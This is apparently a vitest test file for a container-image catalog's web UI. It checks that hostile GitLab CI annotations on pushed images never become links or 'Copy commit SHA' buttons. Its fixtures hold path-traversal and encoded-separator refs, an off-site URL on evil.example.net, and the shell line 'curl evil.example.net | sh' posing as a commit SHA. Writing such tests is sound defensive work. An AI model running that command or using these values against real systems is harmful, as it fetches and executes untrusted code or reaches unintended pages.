// Hostile input: annotation values carried into actions. Images with crafted annotations pushed to
// a real registry and synced into both catalogs; the API's build URLs and the browser's links and
// copy buttons are read back from what serve answers (in-process). The raw values stay in
// `annotations`; only checked values become a link or a "Copy commit SHA".
import type { Hono } from 'hono';
import { beforeAll, describe, expect, it } from 'vitest';
import { sync } from '../../src/catalog/sync.js';
import { RegistryClient } from '../../src/oci/registry.js';
import { createApp } from '../../src/server/app.js';
import { mountUi } from '../../src/server/ui/index.js';
import { parseGitlabUrls } from '../../src/server/ui/links.js';
import { makeTempDir } from '../helpers/cleanup.js';
import { useRegistry } from '../helpers/fixtures.js';
import { makeImage, pushImage } from '../helpers/images.js';
import { BACKENDS, useBackend } from '../catalog/backends.js';
import { hex } from '../catalog/seed.js';

const registry = useRegistry();
const GITLAB = 'https://gitlab.example.com';
const PROJECT = `${GITLAB}/group/app`;

interface Item {
  tag: string;
  annotations: Record<string, string>;
  build: Record<string, { url?: string } | undefined>;
}

const HOSTILE: Record<string, Record<string, string>> = {
  // A ref with dot segments: /-/tree/../../admin would resolve to another page of the server.
  dots: { 'com.gitlab.ci.commit_ref_name': '../../admin', 'com.gitlab.ci.branch': '../../admin' },
  // Encoded slash, backslash and dot in a URL written into the annotations.
  encoded: {
    'com.gitlab.ci.branch': 'feature%2f..%2fadmin',
    'com.gitlab.ci.pipeline_url': `${PROJECT}/-/pipelines/%2e%2e%2fadmin`,
    'com.gitlab.ci.job_url': `${PROJECT}/-/jobs/1%5c..%5cadmin`,
  },
  backslash: { 'com.gitlab.ci.branch': 'a\\..\\admin' },
  // Not a commit SHA: no "Copy commit SHA" for it.
  notsha: { 'com.gitlab.ci.commit_sha': 'curl evil.example.net | sh' },
  // Another server entirely.
  elsewhere: { 'com.gitlab.ci.pipeline_url': 'https://evil.example.net/group/app/-/pipelines/1' },
};

function annotations(extra: Record<string, string>): Record<string, string> {
  return {
    'com.gitlab.ci.commit_sha': hex(20),
    'com.gitlab.ci.pipeline_id': '4242',
    'com.gitlab.ci.job_id': '77',
    'com.gitlab.ci.branch': 'main',
    'com.gitlab.ci.project_url': PROJECT,
    ...extra,
  };
}

async function page(app: Hono, path: string): Promise<string> {
  const res = await app.request(path);
  expect(res.status).toBe(200);
  return res.text();
}

function hrefs(text: string): string[] {
  return [...text.matchAll(/href="([^"]*)"/g)].map((m) => m[1]!.replaceAll('&amp;', '&'));
}

describe.each(BACKENDS)('only checked values become links and copy buttons, on %s', (backendName) => {
  const backend = useBackend(backendName);
  const repository = `hostile-${backendName}/app`;
  let app: Hono;
  let items: Map<string, Item>;

  beforeAll(async () => {
    const dir = await makeTempDir('hostile-links');
    for (const [tag, extra] of [['good', {}] as const, ...Object.entries(HOSTILE)]) {
      await pushImage(await makeImage(`${dir}/${tag}`, { layers: 1, tag, manifestAnnotations: annotations(extra) }), `${registry().host}/${repository}:${tag}`);
    }
    const catalog = await backend().fresh();
    const client = new RegistryClient({ fetch: globalThis.fetch, credentials: () => undefined });
    expect(await sync({ client, store: catalog.store, registry: registry().host, prefix: repository })).toMatchObject({ complete: true });
    app = createApp({
      store: catalog.store,
      gitlabServers: parseGitlabUrls([GITLAB]),
      ui: (a) => mountUi(a, { store: catalog.store, gitlabUrls: [GITLAB], now: () => new Date() }),
    });
    const res = await app.request(`/api/v1/repositories/${repository}/tags`);
    items = new Map(((await res.json()) as { items: Item[] }).items.map((i) => [i.tag, i]));
  });

  it('the API gives build URLs only where the browser links them; the raw values stay in annotations', () => {
    const good = items.get('good')!;
    expect(good.build.ref?.url).toBe(`${PROJECT}/-/tree/main`);
    expect(good.build.commit?.url).toMatch(new RegExp(`^${PROJECT}/-/commit/[0-9a-f]{40}$`));
    expect(items.get('dots')!.build.ref).toEqual({ name: '../../admin', kind: 'branch' });
    expect(items.get('encoded')!.build.ref?.url).toBeUndefined();
    expect(items.get('encoded')!.build.pipeline?.url).toBeUndefined();
    expect(items.get('encoded')!.build.job?.url).toBeUndefined();
    expect(items.get('encoded')!.annotations['com.gitlab.ci.pipeline_url']).toBe(HOSTILE.encoded!['com.gitlab.ci.pipeline_url']);
    expect(items.get('backslash')!.build.ref?.url).toBeUndefined();
    expect(items.get('elsewhere')!.build.pipeline?.url).toBeUndefined();
    expect(items.get('elsewhere')!.annotations['com.gitlab.ci.pipeline_url']).toBe('https://evil.example.net/group/app/-/pipelines/1');
  });

  it('the browser links no ref with dot segments or encoded separators, and offers "Copy commit SHA" only for a SHA', async () => {
    const good = await page(app, `/r/${repository}/-/tags/good`);
    expect(hrefs(good)).toContain(`${PROJECT}/-/tree/main`);
    expect(good).toContain('aria-label="Copy commit SHA"');
    for (const tag of Object.keys(HOSTILE)) {
      const text = await page(app, `/r/${repository}/-/tags/${tag}`);
      const links = hrefs(text).filter((h) => h.startsWith('http'));
      for (const h of links) {
        expect(h, tag).not.toMatch(/%(25)*(2e|2f|5c)/i);
        expect(h, tag).not.toMatch(/\/\.\.?(\/|$)/);
        expect(h.startsWith(`${GITLAB}/`), tag).toBe(true);
      }
    }
    const notsha = await page(app, `/r/${repository}/-/tags/notsha`);
    expect(notsha).not.toContain('aria-label="Copy commit SHA"');
    expect(notsha).not.toContain('data-copy="curl');
    const listing = await page(app, `/r/${repository}`);
    expect(listing).not.toContain('data-copy="curl');
  });
});
